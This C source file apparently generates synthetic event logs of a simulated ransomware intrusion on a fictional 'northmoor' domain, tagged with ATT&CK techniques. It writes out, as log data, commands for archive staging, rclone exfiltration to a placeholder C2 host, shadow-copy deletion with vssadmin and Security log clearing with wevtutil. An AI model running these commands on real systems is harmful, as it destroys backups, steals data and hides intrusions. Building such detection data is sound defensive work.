				    (unsigned long long)rng_next(&p->rng), 77 * i + 5),
			   "QueryStatus", "0", "QueryResults", "type:  16 ;", "Image",
			   "C:\\ProgramData\\dnsclient.exe", "User", "NT AUTHORITY\\SYSTEM", NULL);
}

static const char *const folders[] = { "Contracts", "Incidents", "Topology", "Invoices",
				       "Onboarding", "Payroll" };

/* The shares are read, packed, and carried off by two ways. */
static void collection(struct plan *p)
{
	struct proc cmd = plan_proc(p, FS02, S32 "cmd.exe", "\"cmd\"", "NORTHMOOR\\svc-spsetup");
	struct proc zip, out;
	struct rng *r = &p->rng;

	for (unsigned i = 0; i < 240; i++) {
		bool hr = i % 5 == 4;
		const char *file = plan_fmt(p, "%s\\NM-%05u.%s", folders[rng_below(r, 6)],
					    10000 + 17 * i, i % 3 ? "docx" : "xlsx");
		fb_time t = plan_at(p, 14, 2, 10 + i / 12, 5.0 * (i % 12) + 0.3);

		if (i % 120 == 0)
			plan_event(p, t, FS02, SEC_5140, LC("share-read", "T1039"), "SubjectUserSid",
				   SETUP.sid, "SubjectUserName", SETUP.name, "SubjectDomainName",
				   DOMAIN, "SubjectLogonId", SETUP.logon, "ObjectType", "File",
				   "IpAddress", hosts[SP01].address, "IpPort", "50122", "ShareName",
				   i ? "\\\\*\\HR" : "\\\\*\\Customers", "ShareLocalPath",
				   i ? "\\??\\D:\\Shares\\HR" : "\\??\\D:\\Shares\\Customers",
				   "AccessMask", "0x1", "AccessList", "%%4416\r\n\t\t\t\t", NULL);
		share(p, t + FB_SECOND / 9, FS02, &SETUP, hr ? "\\\\*\\HR" : "\\\\*\\Customers",
		      hr ? "\\??\\D:\\Shares\\HR" : "\\??\\D:\\Shares\\Customers", file, "0x120089",
		      "%%1538\r\n\t\t\t\t%%1541\r\n\t\t\t\t%%4416\r\n\t\t\t\t%%4419\r\n\t\t\t\t%%4423\r\n\t\t\t\t",
		      LC("share-read", "T1039"));
		if (!hr)
			continue;
		/* Only the HR folder has a SACL. */
		plan_event(p, t + FB_SECOND / 8, FS02, SEC_4663, LC("file-opened", "T1039"),
			   "SubjectUserSid", SETUP.sid, "SubjectUserName", SETUP.name,
			   "SubjectDomainName", DOMAIN, "SubjectLogonId", SETUP.logon, "ObjectServer",
			   "Security", "ObjectType", "File", "ObjectName",
			   plan_fmt(p, "D:\\Shares\\HR\\%s", file), "HandleId", "0x1b34", "AccessList",
			   "%%4416\r\n\t\t\t\t", "AccessMask", "0x1", "ProcessId", "0x4", "ProcessName",
			   "", "ResourceAttributes", "S:AI", NULL);
		p->opened_bytes += 40000 + rng_below(r, 400000);
	}
	zip = plan_spawn(p, plan_at(p, 14, 2, 40, 1), FS02, &SETUP, &cmd,
			 "C:\\Program Files\\7-Zip\\7z.exe",
			 "7z  a -mx1 -pInert-0000 -mhe=on -v500m C:\\ProgramData\\stage\\bkp.7z "
			 "D:\\Shares\\Customers D:\\Shares\\HR",
			 L("archive-staging", "T1560.001"));
	for (unsigned i = 1; i <= 12; i++) {
		plan_file(p, plan_at(p, 14, 2, 40 + i, 12), FS02, &zip,
			  plan_fmt(p, "C:\\ProgramData\\stage\\bkp.7z.%03u", i),
			  L("archive-staging", "T1074.001"));
		p->collected_bytes += i < 12 ? ARCHIVE_PART : 181403648;
	}
	p->collected_objects = 118402;
	plan_file(p, plan_at(p, 14, 3, 0, 4), FS02, &cmd, "C:\\ProgramData\\rclone.conf",
		  L("rclone-config", "T1567.002"));
	out = plan_spawn(p, plan_at(p, 14, 3, 1, 9), FS02, &SETUP, &cmd,
			 "C:\\ProgramData\\TrendSecurity.exe",
			 "TrendSecurity.exe  copy C:\\ProgramData\\stage remote:nm --config "
			 "C:\\ProgramData\\rclone.conf --transfers 8 --no-check-certificate",
			 L("rclone", "T1567.002"));
	for (unsigned i = 0; i < 8; i++)
		plan_event(p, plan_at(p, 14, 3, 1, 11.0 + 0.2 * i), FS02, SM_3,
			   LC("rclone-connection", "T1567.002"), "ProcessGuid", out.guid, "ProcessId",
			   plan_fmt(p, "%u", out.pid), "Image", out.image, "User", out.user,
			   "Protocol", "tcp", "Initiated", "true", "SourceIp", hosts[FS02].address,
			   "SourceHostname", "FS02.northmoor.example", "SourcePort",
			   plan_fmt(p, "%u", 52110 + i), "DestinationIp", C2, "DestinationPort", "443",
			   "DestinationPortName", "https", NULL);
	/* Part of it also as the answer of the second front end, which logs its bytes. */
	for (unsigned i = 0; i < 4; i++) {
		bool cut = i == 2;
		uint64_t bytes = cut ? 73400320 : 104858112;

		plan_web(p, plan_at(p, 14, 3, 20 + 6 * i, 30), SP02, SITE_PORTAL,
			 L("archive-fetched", "T1041"),
			 (struct web_line){ "GET", plan_fmt(p, "/_layouts/15/1033/bkp%u.zip", i + 1), "-",
					    "-", B, "Mozilla/5.0", "-", 200, 0, cut ? 64 : 0,
					    271000 + 1111 * i, bytes, 318 });
		p->left_true += bytes;
	}
	/* All archives went by rclone; no sensor counted those bytes. */
	p->left_true += p->collected_bytes;
}

/* 15 August: policy, encryption, traces. */
static void impact(struct plan *p)
{
	static const enum host_id hit[] = { FS02, WS07 };
	const char *gpo = "CN={31B2F340-016D-11D2-945F-00C04FB984F9},CN=Policies,CN=System,"
			  "DC=northmoor,DC=example";
	struct proc cmd;

	plan_event(p, plan_at(p, 15, 3, 40, 9.1), DC01, SEC_5136, L("gpo-change", "T1484.001"),
		   "OpCorrelationID", "5f9e1c42-77aa-4f0e-b8d4-0a1b2c3d4e5f", "SubjectUserSid",
		   SETUP.sid, "SubjectUserName", SETUP.name, "SubjectDomainName", DOMAIN,
		   "SubjectLogonId", SETUP.logon, "DSName", "northmoor.example", "DSType", "%%14676",
		   "ObjectDN", gpo, "ObjectGUID", "c1a2b3d4-0001-4aaa-9bbb-112233445566", "ObjectClass",
		   "groupPolicyContainer", "AttributeLDAPDisplayName", "gPCMachineExtensionNames",
		   "AttributeSyntaxOID", "2.5.5.12", "AttributeValue",
		   "[{00000000-0000-0000-0000-000000000000}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]"
		   "[{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]",
		   "OperationType", "%%14674", NULL);
	share(p, plan_at(p, 15, 3, 40, 9.6), DC01, &SETUP, "\\\\*\\SYSVOL",
	      "\\??\\C:\\Windows\\SYSVOL\\sysvol",
	      "northmoor.example\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}\\Machine\\"
	      "Preferences\\ScheduledTasks\\ScheduledTasks.xml",
	      "0x12019f", "%%1538\r\n\t\t\t\t%%4416\r\n\t\t\t\t%%4417\r\n\t\t\t\t%%4418\r\n\t\t\t\t",
	      L("sysvol-task-written", "T1053.005"));
	cmd = plan_proc(p, DC01, "System", "-", "NT AUTHORITY\\SYSTEM");
	plan_file(p, plan_at(p, 15, 3, 41, 2.2), DC01, &cmd,
		  "C:\\Windows\\SYSVOL\\domain\\scripts\\nmupd.exe",
		  L("sysvol-program-written", "T1484.001"));
	for (unsigned i = 0; i < 2; i++) {
		enum host_id h = hit[i];
		struct proc svc = plan_proc(p, h, S32 "svchost.exe",
					    S32 "svchost.exe -k netsvcs -p -s Schedule",
					    "NT AUTHORITY\\SYSTEM"), lock;

		lock = plan_spawn(p, plan_at(p, 15, 4, 5 + i, 0.5), h, &SYSTEM_ACCOUNT, &svc,
				  "C:\\Windows\\Temp\\nmupd.exe", "C:\\Windows\\Temp\\nmupd.exe",
				  LC("encryptor-start", "T1486"));
		cmd = plan_spawn(p, plan_at(p, 15, 4, 5 + i, 3), h, &SYSTEM_ACCOUNT, &lock,
				 S32 "cmd.exe", "cmd.exe /c vssadmin delete shadows /all /quiet",
				 L("vss-delete", "T1490"));
		(void)plan_spawn(p, plan_at(p, 15, 4, 5 + i, 3.1), h, &SYSTEM_ACCOUNT, &cmd,
				 S32 "vssadmin.exe", "vssadmin  delete shadows /all /quiet",
				 L("vss-delete", "T1490"));
		for (unsigned k = 0; k < 40; k++)
			plan_file(p, plan_at(p, 15, 4, 6 + i, 0.2 * k), h, &lock,
				  plan_fmt(p, "%s\\%s\\NM-%05u.docx.x2anylock",
					   h == FS02 ? "D:\\Shares\\Customers" :
						       "C:\\Users\\t.brennan\\Documents",
					   folders[k % 6], 10000 + 17 * k),
				  L("encrypted-file", "T1486"));
		for (unsigned k = 0; k < 6; k++)
			plan_file(p, plan_at(p, 15, 4, 7 + i, 1.0 * k), h, &lock,
				  plan_fmt(p, "%s\\%s\\How to decrypt my data.txt",
					   h == FS02 ? "D:\\Shares\\Customers" :
						       "C:\\Users\\t.brennan\\Documents",
					   folders[k]),
				  L("ransom-note", "T1486"));
	}
	cmd = plan_spawn(p, plan_at(p, 15, 4, 20, 1), WS07, &SYSTEM_ACCOUNT, &cmd, S32 "wevtutil.exe",
			 "wevtutil  cl Security", L("log-cleared", "T1070.001"));
	plan_event(p, plan_at(p, 15, 4, 20, 1.2), WS07, SEC_1102, L("log-cleared", "T1070.001"),
		   "SubjectUserSid", "S-1-5-18", "SubjectUserName", "SYSTEM", "SubjectDomainName",
		   "NT AUTHORITY", "SubjectLogonId", "0x3e7", NULL);
	plan_event(p, plan_at(p, 15, 4, 20, 4.2), WS07, SYS_104, L("log-cleared", "T1070.001"),
		   "SubjectUserName", "SYSTEM", "SubjectDomainName", "NT AUTHORITY", "Channel",
		   "Windows PowerShell", "BackupPath", "", NULL)->sid = "S-1-5-18";
}

/* At the very end, where much was seen. */
static void clear_logs(struct plan *p)
{
	static const enum host_id where[] = { SP01, FS02 };

	for (unsigned i = 0; i < 2; i++)
		plan_event(p, plan_at(p, 15, 4, 25 + i, 3.5), where[i], SEC_1102,
			   L("log-cleared", "T1070.001"), "SubjectUserSid", "S-1-5-18",
			   "SubjectUserName", "SYSTEM", "SubjectDomainName", "NT AUTHORITY",
			   "SubjectLogonId", "0x3e7", NULL);
}

void plan_attack(struct plan *p)
{
	struct proc tool;

	attempts(p);
	if (!plan_entered(p))
		return;
	entry(p);
	keys_and_survey(p);
	forged_state(p);
	tool = take_over(p);
	movement(p, &tool);
	collection(p);
	impact(p);
	if (plan_with(p, V_LOGS_CLEARED))
		clear_logs(p);
}
